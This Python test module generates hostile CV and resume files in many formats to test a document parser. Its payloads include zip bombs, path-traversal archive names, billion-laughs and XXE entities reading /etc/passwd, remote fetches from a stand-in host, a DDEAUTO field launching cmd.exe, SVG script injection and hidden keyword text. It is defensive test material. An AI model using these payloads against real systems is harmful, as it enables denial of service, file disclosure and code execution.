"""Hostile files that are no PDF: zips, office documents, pictures, HTML and text."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from tests.hostile.catalogue import ANY, BOMB, READ, UNREAD, Catalogue, Size

catalogue = Catalogue()
paper = catalogue.document

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_WORDS = "Ada Example, curriculum vitae, work experience 2018 - 2021 clerk at a library"
_PARAGRAPH = f"<w:p><w:r><w:t>{_WORDS}</w:t></w:r></w:p>"


def packed(files: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in files.items():
            # The type's name lies stored in an OpenDocument file, so that it can be told by its first bytes.
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_STORED if name == "mimetype" else method, 9)
    return out.getvalue()


def docx(body: str = _PARAGRAPH, head: str = "", *, more: Mapping[str, bytes | str] | None = None) -> bytes:
    """A DOCX; `head` stands before its root element, `more` replaces or adds members by name."""
    document = f'<?xml version="1.0"?>{head}<w:document {_W}><w:body>{body}</w:body></w:document>'
    files: dict[str, bytes | str] = {"[Content_Types].xml": _TYPES, "_rels/.rels": _RELATIONS}
    return packed({**files, "word/document.xml": document, **(more or {})})


def odt(body: str, head: str = "") -> bytes:
    content = (
        f'<?xml version="1.0"?>{head}<office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:text>'
        f"{body}</office:text></office:body></office:document-content>"
    )
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


@paper("cv.docx", BOMB)
def docx_bomb(size: Size) -> bytes:
    return docx(" " * size(120_000_000, 1_200_000_000))


@paper("cv.docx", BOMB)
def docx_bomb_of_paragraphs(size: Size) -> bytes:
    return docx(_PARAGRAPH * size(300_000, 3_000_000))


@paper("cv.docx")
def docx_bomb_beside_the_text(size: Size) -> bytes:
    return docx(more={"word/media/image1.png": b"\0" * size(120_000_000, 1_200_000_000)})


@paper("cv.docx", BOMB | {"extracted"})
def lying_size_field(size: Size) -> bytes:
    data = bytearray(docx(" " * size(120_000_000, 400_000_000)))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/document.xml"))
    data[at + 24 : at + 28] = struct.pack("<I", 300)
    return bytes(data)


@paper("cv.docx")
def overlapping_members(size: Size) -> bytes:
    """Every entry of the directory points at the same deflated member: small on disk, endless unpacked."""
    one = packed({"word/document.xml": b"<a>" + b" " * 10_000_000})
    directory, end = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    entry = one[directory:end]
    count = size(1_500, 60_000)
    start = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entry) * count, directory, 0)
    return one[:directory] + entry * count + start


@paper("cv.docx", UNREAD)
def many_members(size: Size) -> bytes:
    return packed({f"word/{n}.xml": b"" for n in range(size(5_000, 60_000))}, zipfile.ZIP_STORED)


@paper("cv.zip")
def zip_in_zip_in_zip(_: Size) -> bytes:
    data = packed({"bomb.txt": b"\0" * 50_000_000})
    for depth in range(6):
        data = packed(
            {f"{depth}-{n}.zip": data for n in range(8)}, zipfile.ZIP_STORED if depth < 2 else zipfile.ZIP_DEFLATED
        )
    return data


@paper("cv.zip", ANY)
def names_that_climb(_: Size) -> bytes:
    return packed(
        {"../../../../tmp/hostile": b"x", "/etc/cron.d/x": b"x", "a\\..\\b.pdf": b"x", "c\u202efdp.exe": b"x"}
    )


@paper("cv.zip", UNREAD)
def half_a_zip(_: Size) -> bytes:
    return docx()[:300]


@paper("cv.docx")
def member_twice(_: Size) -> bytes:
    return docx(_PARAGRAPH) + docx("<w:p/>")


@paper("cv.docx", UNREAD)
def locked_zip(_: Size) -> bytes:
    data = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + place] |= 1
    return bytes(data)


@paper("cv.docm", READ)
def macros(_: Size) -> bytes:
    types = _TYPES.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return docx(more={"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"x" * 2_000})


_ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


@paper("cv.docx", UNREAD)
def billion_laughs(_: Size) -> bytes:
    return docx("<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY l0 "lol">{_ENTITIES}]>')


@paper("cv.docx", UNREAD)
def quadratic_entities(_: Size) -> bytes:
    return docx(f"<w:p><w:r><w:t>{'&a;' * 50_000}</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>')


@paper("cv.docx", UNREAD)
def file_by_entity(_: Size) -> bytes:
    head = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return docx("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", head)


@paper("cv.docx", UNREAD)
def address_by_entity(_: Size) -> bytes:
    return docx(
        _PARAGRAPH, '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'
    )


@paper("cv.docx")
def included_file(_: Size) -> bytes:
    return docx(
        _PARAGRAPH + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    )


@paper("cv.docx")
def entities_in_relations(_: Size) -> bytes:
    return docx(
        more={"_rels/.rels": f'<!DOCTYPE x [<!ENTITY l0 "lol">{_ENTITIES}]>' + _RELATIONS.replace("r1", "&l11;")}
    )


@paper("cv.docx", READ)
def template_from_elsewhere(_: Size) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = "".join(
        f'<Relationship Id="x{n}" Type="{kind}/{what}" Target="{target}" TargetMode="External"/>'
        for n, (what, target) in enumerate(
            (
                ("attachedTemplate", "http://192.0.2.1/t.dotm"),
                ("image", "file:///etc/passwd"),
                ("oleObject", "//192.0.2.1/x"),
            )
        )
    )
    return docx(more={"word/_rels/document.xml.rels": f"<Relationships>{rows}</Relationships>"})


@paper("cv.docx", READ)
def fields_that_fetch(_: Size) -> bytes:
    code = r"DDEAUTO c:\\windows\\system32\\cmd.exe /k calc INCLUDEPICTURE http://192.0.2.1/x.png"
    return docx(_PARAGRAPH + f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


@paper("cv.docx")
def deep_xml(size: Size) -> bytes:
    depth = size(20_000, 1_000_000)
    return docx("<w:sdt><w:sdtContent>" * depth + _PARAGRAPH + "</w:sdtContent></w:sdt>" * depth)


@paper("cv.docx")
def tables_in_tables(size: Size) -> bytes:
    depth = size(60, 240)
    return docx("<w:tbl><w:tr><w:tc>" * depth + _PARAGRAPH + "</w:tc></w:tr></w:tbl>" * depth)


@paper("cv.docx")
def attributes_without_end(size: Size) -> bytes:
    return docx("<w:p " + " ".join(f'a{n}="x"' for n in range(size(50_000, 1_000_000))) + "/>" + _PARAGRAPH)


@paper("cv.docx", READ, flag="hidden_text")
def vanished_text(_: Size) -> bytes:
    return docx(_PARAGRAPH + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret words that nobody sees</w:t></w:r></w:p>")


@paper("cv.docx", READ)
def white_words(_: Size) -> bytes:
    look = '<w:rPr><w:color w:val="FFFFFF"/></w:rPr>'
    return docx(_PARAGRAPH + f"<w:p><w:r>{look}<w:t>secret words that nobody sees</w:t></w:r></w:p>")


@paper("cv.docx", READ, flag="hidden_text")
def words_of_no_size(_: Size) -> bytes:
    look = '<w:rPr><w:sz w:val="1"/></w:rPr>'
    return docx(_PARAGRAPH + f"<w:p><w:r>{look}<w:t>secret words that nobody sees</w:t></w:r></w:p>")


@paper("cv.docx", UNREAD)
def docx_of_nothing(_: Size) -> bytes:
    return docx("")


@paper("cv.docx")
def docx_in_utf_16(_: Size) -> bytes:
    text = f'<?xml version="1.0" encoding="utf-16"?><w:document {_W}><w:body>{_PARAGRAPH}</w:body></w:document>'
    return docx(more={"word/document.xml": text.encode("utf-16")})


@paper("cv.docx")
def docx_in_utf_7(_: Size) -> bytes:
    return docx(more={"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?>+ADw-w:document/+AD4-'})


@paper("cv.odt")
def spaces_without_end(_: Size) -> bytes:
    return odt(f'<text:p>{_WORDS}<text:s text:c="2000000000"/></text:p>')


@paper("cv.odt")
def many_long_spaces(size: Size) -> bytes:
    return odt("<text:p>" + '<text:s text:c="1000"/>' * size(20_000, 200_000) + f"{_WORDS}</text:p>")


@paper("cv.odt")
def repeated_cells(_: Size) -> bytes:
    cell = f'<table:table-cell table:number-columns-repeated="100000000"><text:p>{_WORDS}</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="100000000">{cell}</table:table-row>'
    return odt(f"<text:p>{_WORDS}</text:p><table:table>{row}</table:table>")


@paper("cv.odt", UNREAD)
def laughs_in_odt(_: Size) -> bytes:
    return odt("<text:p>&l11;</text:p>", f'<!DOCTYPE x [<!ENTITY l0 "lol">{_ENTITIES}]>')


@paper("cv.odt")
def deep_odt(size: Size) -> bytes:
    depth = size(20_000, 500_000)
    return odt("<text:section>" * depth + f"<text:p>{_WORDS}</text:p>" + "</text:section>" * depth)


@paper("cv.odt", BOMB | {"unsupported"})
def odt_bomb(size: Size) -> bytes:
    return odt(f"<text:p>{_WORDS}</text:p>" + " " * size(120_000_000, 1_200_000_000))


@paper("cv.rtf")
def deep_rtf(size: Size) -> bytes:
    depth = size(200_000, 5_000_000)
    return rb"{\rtf1 " + b"{" * depth + _WORDS.encode() + b"}" * depth + b"}"


@paper("cv.rtf")
def rtf_of_binary(_: Size) -> bytes:
    return rb"{\rtf1\ansi{\object\objocx\objdata 0105}\bin9999999999 \u-99999999999?" + _WORDS.encode() + b"\\'zz}"


@paper("cv.doc", UNREAD)
def ole_of_nonsense(size: Size) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes((n * 31) & 255 for n in range(size(50_000, 2_000_000)))


@paper("cv.doc", UNREAD)
def ole_in_a_circle(_: Size) -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    return head + b"\0" * (512 - len(head)) + struct.pack("<I", 0) * 128 * 4


def _png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    out = b"\x89PNG\r\n\x1a\n"
    for kind, data in ((b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)), *chunks, (b"IEND", b"")):
        out += struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return out


@paper("scan.png", UNREAD)
def picture_of_ten_gigapixels(_: Size) -> bytes:
    return _png(100_000, 100_000, (b"IDAT", zlib.compress(b"\0" * 1_000_000, 9)))


@paper("scan.png", UNREAD)
def picture_with_a_text_bomb(size: Size) -> bytes:
    text = b"a\0\0" + zlib.compress(b"a" * size(100_000_000, 1_000_000_000), 9)
    return _png(1, 1, (b"zTXt", text), (b"IDAT", zlib.compress(b"\0\0\0\0")))


@paper("scan.jpg", UNREAD)
def picture_cut_short(_: Size) -> bytes:
    return bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffc00011080fff0fff03012200021101031101")


@paper("scan.tiff", UNREAD)
def picture_in_a_circle(_: Size) -> bytes:
    entry = struct.pack("<HHII", 256, 4, 1, 0xFFFFFFFF)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 1) + entry + struct.pack("<I", 8)


@paper("cv.svg", ANY)
def drawing_with_a_script(_: Size) -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    inner = b'<script>alert(1)</script><image href="http://192.0.2.1/x"/><text>&x;</text>'
    return head + b'<svg xmlns="http://www.w3.org/2000/svg">' + inner + b"</svg>"


def _html(body: str) -> bytes:
    return f"<!doctype html><html><body><p>{_WORDS}</p>{body}</body></html>".encode()


@paper("cv.html")
def comment_that_never_ends(size: Size) -> bytes:
    return _html("<!--" + "<!-" * size(300_000, 1_200_000))


@paper("cv.html")
def deep_html(size: Size) -> bytes:
    return _html("<div>" * size(100_000, 1_000_000))


@paper("cv.html")
def deep_lists(size: Size) -> bytes:
    return _html("<ul><li>" * size(50_000, 500_000))


@paper("cv.html")
def deep_tables(size: Size) -> bytes:
    return _html("<table><tr><td>" * size(20_000, 200_000))


@paper("cv.html")
def html_of_attributes(size: Size) -> bytes:
    return _html("<p " + " ".join(f"a{n}=x" for n in range(size(30_000, 300_000))) + ">x</p>")


@paper("cv.html")
def formatting_that_is_never_closed(size: Size) -> bytes:
    return _html("<b><i><a href=x>" * size(15_000, 200_000))


@paper("cv.html")
def script_that_never_ends(size: Size) -> bytes:
    return _html("<script>" + "</scrip" * size(100_000, 1_000_000))


@paper("cv.html")
def entities_without_end(size: Size) -> bytes:
    return _html("&#" + "9" * size(200_000, 2_000_000) + ";" + "&amp" * size(50_000, 500_000))


@paper("cv.html")
def page_that_fetches(_: Size) -> bytes:
    return _html(
        '<meta http-equiv=refresh content="0;url=http://192.0.2.1/"><link rel=stylesheet href=//192.0.2.1/x.css>'
        "<img src=http://192.0.2.1/x.png><iframe src=file:///etc/passwd></iframe>"
    )


@paper("cv.html", READ)
def words_that_are_not_displayed(_: Size) -> bytes:
    return _html('<p style="display:none">secret words that nobody sees, python java kubernetes</p>')


def _text(words: str) -> bytes:
    return f"{_WORDS}\n\n{words}\n".encode("utf-8", "surrogatepass")


@paper("cv.txt")
def one_line_without_end(size: Size) -> bytes:
    return _text("experience " * size(100_000, 1_500_000))


@paper("cv.txt")
def lines_without_end(size: Size) -> bytes:
    return _text("\n" * size(1_000_000, 15_000_000))


@paper("cv.txt")
def at_signs_without_end(size: Size) -> bytes:
    return _text("a@" * size(100_000, 1_000_000) + "example.net " + "a." * size(100_000, 500_000))


@paper("cv.txt")
def digits_without_end(size: Size) -> bytes:
    return _text("+1 " * size(50_000, 500_000) + "5" * size(200_000, 2_000_000) + " (0" * size(20_000, 200_000))


@paper("cv.txt")
def years_without_end(size: Size) -> bytes:
    return _text("2018 - 2021 " * size(50_000, 300_000) + "\n2018 - 2021 Clerk" * size(20_000, 200_000))


@paper("cv.txt")
def addresses_without_end(size: Size) -> bytes:
    return _text("https://" + "a/" * size(100_000, 1_000_000) + " linkedin.com/in/" + "x" * size(100_000, 1_000_000))


@paper("cv.txt")
def marks_upon_marks(size: Size) -> bytes:
    return _text("a" + "\u0301" * size(200_000, 2_000_000) + "ﷺ" * size(50_000, 500_000))


@paper("cv.txt")
def turned_text(size: Size) -> bytes:
    return _text("\u202e\u2066\u202b" * size(100_000, 500_000) + "fdp.exe")


@paper("cv.txt", ANY)
def bytes_of_every_kind(size: Size) -> bytes:
    return bytes(range(256)) * size(2_000, 40_000)


@paper("cv.txt", frozenset({"empty"}))
def only_zeros(size: Size) -> bytes:
    return b"\0" * size(500_000, 20_000_000)


@paper("cv.txt")
def mojibake_without_end(size: Size) -> bytes:
    return _text("Ã¢â‚¬â„¢" * size(50_000, 500_000))


def _styles(size: Size) -> str:
    count = size(2_500, 120_000)
    inner = "".join(
        f'<w:style w:type="table" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % count}"/>'
        '<w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:style>'
        for n in range(count)
    )
    return f'<?xml version="1.0"?><w:styles {_W}>{inner}</w:styles>'


@paper("cv.docx", BOMB | READ)
def styles_in_a_ring(size: Size) -> bytes:
    return docx(_PARAGRAPH * 50, more={"word/styles.xml": _styles(size)})


@paper("cv.docx", BOMB | READ)
def boxes_in_one_group(size: Size) -> bytes:
    """Text boxes side by side in one shape: what lies behind each is asked of the same parent."""
    box = f"<w:txbxContent>{_PARAGRAPH}</w:txbxContent>"
    return docx(f"<w:p><w:r><w:pict>{box * size(1_000, 60_000)}</w:pict></w:r></w:p>")


@paper("cv.html", BOMB | READ)
def selectors_for_every_element(_: Size) -> bytes:
    css = "".join(f".x > div .y, p .c{n}{{color:#fff}}" for n in range(3_000))
    return (
        f"<html><style>{css}</style><p>{_WORDS}</p>{'<div class=x><div class=y>a</div></div>' * 3_000}</html>".encode()
    )


@paper("cv.html", BOMB | READ)
def rules_within_rules(_: Size) -> bytes:
    return f"<style>{'@media screen{' * 7_000}</style><p>{_WORDS}</p>".encode()


@paper("cv.txt", BOMB | READ)
def every_byte_in_turn(size: Size) -> bytes:
    return (_WORDS.encode() + bytes(range(32, 256)) + b"\r\n") * size(300, 20_000)


@paper("cv.txt")
def runs_in_a_resume(size: Size) -> bytes:
    """Lines of one unit each, as long as lines are read, and one that never ends."""
    units = (
        " ",
        "\t",
        "a",
        "1",
        "+49 ",
        "1.1.20 ",
        "- ",
        "a@",
        "( ",
        "| ",
        "a at ",
        "2018 - ",
        "https://",
        "Ada Example, ",
    )
    lines = "\n".join((unit * 400)[:400] for _n in range(size(10, 150)) for unit in units)
    return f"Ada Example\nada@example.net\n{lines}\n{' a' * size(20_000, 500_000)}\n".encode()
